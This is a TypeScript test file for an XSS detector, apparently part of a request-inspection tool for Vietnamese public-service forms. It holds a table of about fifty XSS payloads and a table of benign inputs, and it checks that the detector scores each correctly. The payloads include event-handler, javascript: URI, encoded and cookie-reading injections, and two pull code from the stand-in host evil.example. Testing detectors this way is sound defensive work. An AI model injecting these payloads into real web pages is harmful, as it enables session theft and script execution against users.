/**
 * @module analyze/detectors/xss.test
 * Attack and benign tables for the XSS detector.
 */
import { describe, expect, it } from 'vitest';
import type { Input, Transaction } from '../contract.js';
import { scoreXss, xssDetector } from './xss.js';

const transaction: Transaction = { id: 't1', method: 'POST', uri: '/', headers: {}, body: null };

function input(decoded: string, location = 'args.q'): Input {
  return { location, raw: decoded, decoded };
}

function scoreOf(value: string): number {
  const findings = xssDetector.inspect(transaction, [input(value)]);
  return findings.reduce((max, f) => Math.max(max, f.score), 0);
}

const attacks: string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt SRC=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert`1`>',
  '<img/src="x"/onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<iframe src=javascript:alert(1)>',
  '<iframe src="java&#x09;script:alert(1)">',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(document.cookie)">click</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript&colon;alert(1)">x</a>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src=//evil.example/x.swf>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<x onclick=alert(1)>click me',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=prompt(1)>',
  "';alert(1)//",
  '"-alert(1)-"',
  "\\';alert(String.fromCharCode(88,83,83))//",
  '</script><script>alert(1)</script>',
  '</title><svg onload=confirm(1)>',
  'javascript:alert(1)',
  '\tjavascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  '<div style="width: expression(alert(1))">',
  'x:expression(alert(1))',
  "[].constructor.constructor('alert(1)')()",
  '${alert(document.domain)}',
  "'+document.cookie+'",
  '<form action=javascript:alert(1)><input type=submit>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<video><source onerror="alert(1)">',
  "eval(atob('YWxlcnQoMSk='))",
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "top['alert'](1)",
  '<svg><set attributeName=onload to=alert(1)>',
  '<a href=javas&#99;ript:alert(1)>x</a>',
  '<img src=`x` onerror=`alert(1)`>',
];

const benign: string[] = [
  'Nguyễn Văn A',
  'Trần Thị Bích Ngọc',
  '"thủ tục" đăng ký - hộ tịch',
  "O'Brien",
  'a < b > c',
  'x < 5 and y > 3',
  '1 <= 2 => true',
  '<3 dịch vụ công',
  'nguyen.van.a@gmail.com',
  'Nguyễn Văn A <nguyenvana@gmail.com>',
  'https://dichvucong.gov.vn/p/home/dvc-tthc-thu-tuc-hanh-chinh.html?ma_thu_tuc=1.001612',
  'http://example.gov.vn/search?q=hộ+tịch&page=2',
  '<p>Kính gửi <b>Quý cơ quan</b>,</p><p>Tôi xin hỏi về thủ tục.<br>Cảm ơn.</p>',
  '<p><strong>Lưu ý:</strong> hồ sơ nộp trực tuyến tại <a href="https://dichvucong.gov.vn">Cổng DVC</a></p>',
  '<ul><li>CCCD</li><li>Sổ hộ khẩu</li></ul>',
  '<p style="text-align: center;">Thông báo</p>',
  '<img src="https://cdn.example.gov.vn/anh.png" alt="ảnh">',
  '<h2>Hướng dẫn</h2><em>mới</em><u>cập nhật</u>',
  '<table><tr><td>STT</td><td>Tên</td></tr></table>',
  '{"hoTen":"Lê Văn Tám","ghiChu":"không có"}',
  '{"a":1,"b":[1,2,3],"c":{"d":"e"}}',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XNl0',
  'aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ=',
  'Kính gửi Quý cơ quan, tôi là Nguyễn Văn B (sinh năm 1985), đề nghị được hướng dẫn "đăng ký thường trú" - cảm ơn.',
  "Tôi muốn hỏi: 'thủ tục này mất bao lâu?' (khoảng 5 ngày?)",
  'Ghi chú: online=true; mode=fast',
  'Thời gian: 08:00 - 17:00',
  'Tỷ lệ 3:2 (ba trên hai)',
  'Phí = 50.000đ + 10% VAT',
  'Regular expression (regex) support',
  'Please alert me when the dossier is ready',
  'Bạn có thể dùng JavaScript: nó là ngôn ngữ lập trình',
  '000.00.31.H26-261124-0012',
  '2024-11-26T08:00:00+07:00',
  'function của hệ thống chưa rõ',
  'the prompt (question) was unclear',
  'Sự kiện onload của trang: chưa biết',
  'one=1&two=2',
  'Xem thêm tại: www.chinhphu.vn',
  'C:\\Users\\Public\\hoso.pdf',
  '<br/>Trân trọng,<br/>UBND xã',
  '<a href="mailto:hotro@dichvucong.gov.vn">hỗ trợ</a>',
  '<blockquote>"Dân biết, dân bàn"</blockquote>',
  'Điểm: 8.5/10 — "tốt"',
  "He said: \"it's fine\"; she said 'ok'",
  'Tôi < 18 tuổi > 16',
  'Vui lòng chọn <Tỉnh/Thành>',
  '<span style="color: rgb(255,0,0);">đỏ</span>',
  'The alert (warning) system',
];

describe('xssDetector', () => {
  it('is named xss', () => {
    expect(xssDetector.name).toBe('xss');
  });

  it.each(attacks)('detects %s', (value) => {
    expect(scoreOf(value)).toBeGreaterThanOrEqual(5);
  });

  it.each(benign)('stays quiet on %s', (value) => {
    expect(scoreOf(value)).toBeLessThan(5);
  });

  it('has large enough tables', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(40);
    expect(benign.length).toBeGreaterThanOrEqual(40);
  });

  it('scores executable constructs 8–10 and safe rich text 0', () => {
    expect(scoreXss('<img src=x onerror=alert(1)>')).toMatchObject({ score: 10, reason: 'xss:event-handler' });
    expect(scoreXss('<script>x</script>').reason).toBe('xss:script-tag');
    expect(scoreXss('<a href="javascript:alert(1)">x</a>').score).toBeGreaterThanOrEqual(8);
    expect(scoreXss('<p>Chào <b>bạn</b><br><a href="https://a.gov.vn/x">link</a></p>').score).toBe(0);
    const breakout = scoreXss("';alert(1)//").score;
    expect(breakout).toBeGreaterThanOrEqual(5);
    expect(breakout).toBeLessThanOrEqual(7);
  });

  it('reports class, location and truncated evidence', () => {
    const long = '<svg onload=alert(1)>' + 'x'.repeat(400);
    const [finding] = xssDetector.inspect(transaction, [input('xin chào'), input(long, 'body.comment')]);
    expect(finding).toMatchObject({ class: 'xss', location: 'body.comment', reason: 'xss:event-handler' });
    expect(finding?.decoded.length).toBe(256);
  });

  it('only inspects the first 64 KiB', () => {
    expect(scoreOf('a'.repeat(70 * 1024) + '<script>alert(1)</script>')).toBe(0);
  });
});
